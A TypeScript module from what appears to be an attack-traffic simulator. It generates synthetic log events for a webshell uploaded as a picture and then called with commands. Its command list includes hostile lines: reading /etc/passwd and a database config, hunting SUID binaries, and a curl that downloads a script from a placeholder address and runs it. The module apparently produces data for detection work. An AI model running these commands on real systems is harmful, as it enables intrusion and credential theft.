/** A script uploaded as a picture, then called with commands. */
import type { Actor } from "../actor.ts";
import { newTrail } from "../traffic/wander.ts";
import { UPLOAD } from "../world/endpoints/shop.ts";
import { hexId } from "../world/identifiers.ts";
import { STOREFRONT } from "../world/sites.ts";
import type { Attack, AttackStage } from "./attack.ts";
import { insider } from "./attackers.ts";
import { knock } from "./knock.ts";

const COMMANDS = [
  "id",
  "whoami",
  "uname -a",
  "pwd",
  "ls -la",
  "cat /etc/passwd",
  "env",
  "ps aux",
  "ip a",
  "cat ../config/database.php",
  "find / -perm -4000 -type f",
  "curl -s http://203.0.113.66/k.sh -o /tmp/k",
  "chmod +x /tmp/k; /tmp/k",
  "crontab -l",
  "netstat -antp",
] as const;
const SIZES = [54, 9, 110, 22, 640, 1_844, 2_310, 5_120, 780, 912, 1_260, 0, 0, 31, 3_004] as const;

export const webshell: Attack = {
  name: "webshell",
  category: "injection",
  class: "webshell",
  title: "a script uploaded as a picture and used to run commands",
  minutes: { moderate: 18, slow: 600 },
  *act(stage: AttackStage): Actor {
    const { scene, rng, episode, span } = stage;
    const { visitor, person } = insider(stage);
    const trail = newTrail(scene, rng, person);
    const works = rng.chance(0.75);
    const name = `/uploads/${hexId(rng.bits(), 12)}.${rng.pick(["php", "phtml", "php5", "jsp"])}`;
    const parameter = rng.pick(["cmd", "c", "q", "exec"]);
    let at = scene.now;
    for (const status of [415, 415, 422, 201]) {
      yield at;
      scene.send(visitor, UPLOAD, trail, status);
      at += rng.logNormal(20_000, 0.6);
    }
    const commands = works ? COMMANDS.length : 4;
    for (let i = 0; i < commands; i++) {
      yield at;
      const query = `${parameter}=${encodeURIComponent(COMMANDS[i]).replace(/%20/g, "+")}`;
      const status = works ? 200 : 404;
      knock(scene, visitor, {
        site: STOREFRONT,
        path: name,
        query,
        status,
        size: works ? SIZES[i] + rng.below(9) : undefined,
        ms: 20 + rng.below(180),
      });
      at += ((span * 0.8) / commands) * rng.between(0.2, 1.8);
    }
    episode.outcome = works ? "succeeded" : "attempted";
    episode.story = works
      ? `A script was uploaded as ${name} and ran ${commands} commands.`
      : "A script was uploaded as a picture, but could not be called.";
  },
};
